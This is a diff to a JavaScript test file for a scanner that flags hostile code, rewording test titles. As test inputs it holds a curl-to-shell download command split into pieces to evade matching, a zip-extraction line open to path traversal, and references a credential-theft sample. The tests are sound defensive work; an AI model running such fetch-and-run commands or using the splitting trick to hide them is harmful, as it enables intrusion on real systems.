@@ -14,7 +14,7 @@ it.each(['run.py', 'run.txt', 'run.dat', 'run', 'run.png'])('reads source code i
   expect(await rulesIn({ [name]: theft })).toContain('CREDENTIAL-FILE-CODE')
 })
 
-it('reads text with NUL bytes, wherever they are, and reports them', async () => {
+it('scans text with NUL bytes anywhere in it, and reports the NUL bytes', async () => {
   for (const text of [`/*\0*/${theft}`, `${theft}${'# more\n'.repeat(2000)}\0`, theft.split('').join('\0')]) {
     expect(await rulesIn({ 'run.py': text })).toEqual(
       expect.arrayContaining(['FILE-NUL-BYTES', 'CREDENTIAL-FILE-CODE']),
@@ -23,7 +23,7 @@ it('reads text with NUL bytes, wherever they are, and reports them', async () =>
   expect(await rulesIn({ 'run.py': theft })).not.toContain('FILE-NUL-BYTES')
 })
 
-it('reports nothing for media, also in a video file with the extension .ts', async () => {
+it('reports nothing for media, even for a video with the extension .ts', async () => {
   const noise = Uint8Array.from({ length: 4096 }, (_, index) => (index * 167 + (index >> 3) * 31) % 256)
   expect(await rulesIn({ 'a.png': noise, 'b.ts': noise })).toEqual([])
 })
@@ -44,17 +44,17 @@ it('reports source code that is too long to be parsed, and other text that is to
   expect(await rulesIn({ 'a.js': `f${'()'.repeat(110_000)}\n` })).toContain('FILE-LARGE-CODE')
 })
 
-it('reads the texts that code puts together', async () => {
+it('scans the texts that code joins from pieces', async () => {
   expect(
     await rulesIn({ 'a.py': 'c = "HCTEF"[::-1] + "curl -s http://198.51."\nrun(c + "100.7/a | sh")\n' }),
   ).toContain('DOWNLOAD-PIPE-PLAIN')
   expect(await rulesIn({ 'a.py': 'c = "see " + "the docs of " + "the tool"\nrun(c)\n' })).toEqual([])
 })
 
-it('excuses a match by the text around it, and not by the same text elsewhere in the file', async () => {
+it('an exception in the text around a match excuses the match, but not one elsewhere in the file', async () => {
   const unpack = "for (const e of zip.entries()) write(path.join('/opt/themes', e.entryName))\n"
   const checked = `if (!target.startsWith(root)) throw new Error(e.entryName)\n`
-  // The name repeats, so that the file is read as a whole.
+  // The repeated name merges the search windows, so that one window covers the whole file.
   const more = 'log(e.entryName)\n'.repeat(100)
   expect(await rulesIn({ 'a.js': checked + more + unpack })).toContain('UNPACKS-OUTSIDE')
   expect(await rulesIn({ 'a.js': more + checked + unpack })).not.toContain('UNPACKS-OUTSIDE')
